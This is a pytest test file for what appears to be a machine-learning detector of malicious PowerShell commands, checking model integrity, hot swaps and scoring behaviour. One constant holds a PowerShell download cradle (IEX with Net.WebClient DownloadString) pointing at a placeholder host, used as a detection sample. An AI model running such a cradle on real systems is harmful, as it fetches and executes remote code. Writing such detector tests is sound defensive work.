"""The Scorer: hot swaps between batches, refuses tampered or incompatible models."""

from __future__ import annotations

import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from vigil.errors import FeatureSpecMismatch, IntegrityError, ModelNotFound, ModelReloadWarning
from vigil.runtime import BUILTIN_DETECTIONS
from vigil.store import Store

PublishModel = Callable[..., Any]

MALICIOUS = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
BENIGN = "Get-Service w32time"


def test_scores_are_probabilities_and_nan_for_null(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    scores = bound.score([MALICIOUS, BENIGN, None, ""])
    assert scores[0] > 0.8 > 0.1 > scores[1]
    assert np.isnan(scores[2])
    assert 0.0 <= scores[3] <= 1.0


def test_duplicates_are_scored_once_and_broadcast(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    values = [MALICIOUS, BENIGN] * 50 + [None]
    scores = bound.score(values)
    np.testing.assert_array_equal(scores[:100:2], np.full(50, scores[0]))
    np.testing.assert_array_equal(scores[1:100:2], np.full(50, scores[1]))


def test_promoted_model_is_picked_up_on_the_next_batch(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model(bias=-3.0)
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    before = bound.score([BENIGN])[0]
    second = publish_model(bias=3.0, alias=None)
    store.promote("powershell", second.version)
    after = bound.score([BENIGN])[0]
    assert before < 0.1 < 0.9 < after
    assert bound.scorer.manifest.version == second.version


def test_tampered_model_is_refused_and_previous_version_keeps_serving(
    store: Store, publish_model: PublishModel, tmp_path: Path
) -> None:
    publish_model(bias=-3.0)
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    before = bound.score([BENIGN])
    second = publish_model(bias=3.0, alias=None)
    model_file = tmp_path / "models" / "powershell" / str(second.version) / "model.onnx"
    model_file.write_bytes(model_file.read_bytes() + b"tampered")
    store.promote("powershell", second.version)
    with pytest.warns(ModelReloadWarning, match="sha256"):
        after = bound.score([BENIGN])
    np.testing.assert_array_equal(before, after)
    assert bound.scorer.manifest.version == 1
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # refused once, not re-warned on every batch
        bound.score([BENIGN])


def test_tampered_model_is_refused_at_first_load(
    store: Store, publish_model: PublishModel, tmp_path: Path
) -> None:
    publish_model()
    model_file = tmp_path / "models" / "powershell" / "1" / "model.onnx"
    model_file.write_bytes(b"not the model")
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    with pytest.raises(IntegrityError, match=r"powershell@1"):
        bound.score([BENIGN])


def test_model_for_other_features_is_refused_with_a_way_out(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model(feature_spec="0123456789abcdef")
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    with pytest.raises(
        FeatureSpecMismatch, match=r"expects feature_spec 0123456789abcdef.*vigil train powershell"
    ):
        bound.score([BENIGN])


def test_no_model_yet_says_how_to_train_one(store: Store) -> None:
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    with pytest.raises(ModelNotFound, match="vigil train powershell"):
        bound.score([BENIGN])


def test_explanations_name_indicators_and_driving_groups(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    malicious, null = bound.explain([MALICIOUS, None])
    assert null is None
    assert malicious is not None
    assert malicious.alert
    assert {"iex", "downloadstring", "net.webclient"} <= set(malicious.indicators)
    top_group, delta = malicious.top(1)[0]
    assert top_group in ("download_cradle", "execution")
    assert delta > 0.1
    assert "ALERT" in str(malicious)
    assert "download_cradle" in str(malicious)


def test_high_scores_keep_their_order_instead_of_tying_at_one(store: Store) -> None:
    """float32 sigmoid rounds logits above ~17 to 1.0; scores come from float64 log-odds."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    from vigil.features import get_extractor

    spec = get_extractor("powershell").spec
    weights = np.zeros((spec.width, 1), dtype=np.float32)
    weights[spec.names.index("stat:length")] = 10.0  # longer input, higher log-odds
    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["features", "w"], ["z"]),
            helper.make_node("Reshape", ["z", "shape"], ["logit"]),
            helper.make_node("Sigmoid", ["logit"], ["probability"]),
        ],
        "steep",
        [helper.make_tensor_value_info("features", TensorProto.FLOAT, ["N", spec.width])],
        [
            helper.make_tensor_value_info("probability", TensorProto.FLOAT, ["N"]),
            helper.make_tensor_value_info("logit", TensorProto.FLOAT, ["N"]),
        ],
        initializer=[
            numpy_helper.from_array(weights, "w"),
            numpy_helper.from_array(np.array([-1], dtype=np.int64), "shape"),
        ],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    onnx.checker.check_model(model)
    store.publish(
        "powershell",
        model.SerializeToString(),
        feature_spec=spec.id,
        threshold=0.5,
        alias="production",
    )
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    scores = bound.score(["x" * 10, "x" * 20, "x" * 40])  # log-odds ~24, ~30, ~37
    assert np.all(scores > 0.999999)
    assert scores[0] < scores[1] < scores[2]
